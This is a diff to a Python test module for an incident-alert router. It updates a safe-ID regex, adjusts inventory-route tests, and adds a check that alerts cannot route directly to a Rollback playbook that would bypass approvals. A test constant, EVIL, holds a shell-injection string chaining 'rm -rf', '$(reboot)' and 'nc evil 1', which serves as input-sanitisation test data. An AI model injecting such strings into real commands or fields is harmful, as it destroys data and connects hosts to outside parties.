@@ -12,7 +12,8 @@ from tests.bridge.conftest import make_inventory
 from tests.bridge.helpers import PAYLOADS, payload
 from workflows.models import Severity
 
-SAFE_ID = re.compile(r"incident:[A-Za-z0-9._-]+:[A-Za-z0-9._-]+")
+# Safe in a shell word, a URL path and the UI: the kept characters, `%XX` escapes, `~`.
+SAFE_ID = re.compile(r"incident:[A-Za-z0-9._%~-]+:[A-Za-z0-9._%~-]+")
 EVIL = "genesis;rm -rf /tmp/x `id` $(reboot) | nc evil 1 && echo '\"pwned"
 
 
@@ -47,22 +48,29 @@ def test_default_routes_to_playbooks() -> None:
 
 
 def test_inventory_routes_add_and_override() -> None:
-    router = Router(make_inventory(AppCrashed="ServiceDown", GenesisServiceDown="Rollback"))
+    router = Router(make_inventory(AppCrashed="ServiceDown", GenesisServiceDown="Triage"))
     assert (
         router.route({"alertname": "AppCrashed", "service": "agent-lab-api"}).playbook
         == "ServiceDown"
     )
     r = router.route({"alertname": "GenesisServiceDown", "service": "agent-lab-api"})
-    assert r.playbook == "Rollback" and r.reason.startswith("inventory route")
+    assert r.playbook == "Triage" and r.reason.startswith("inventory route")
 
 
 def test_route_to_a_playbook_the_worker_does_not_run_goes_to_triage() -> None:
     # An inventory naming an unknown playbook does not load (below); a worker running
     # fewer playbooks than the inventory routes to is still caught here.
-    r = Router(make_inventory(Foo="Rollback"), playbooks={"ServiceDown"}).route(
+    r = Router(make_inventory(Foo="HighErrorRate"), playbooks={"ServiceDown"}).route(
         {"alertname": "Foo", "service": "agent-lab-api"}
     )
     assert r.playbook == TRIAGE and "no such playbook" in r.reason
+
+
+def test_inventory_route_to_rollback_does_not_load() -> None:
+    # Rollback runs only as an incident's child: an alert routed to it would start it
+    # by hand, skipping the incident's approvals and governor.
+    with pytest.raises(ValueError, match="routes.Foo: no playbook 'Rollback'"):
+        make_inventory(Foo="Rollback")
 
 
 def test_inventory_route_to_an_unknown_playbook_does_not_load() -> None:
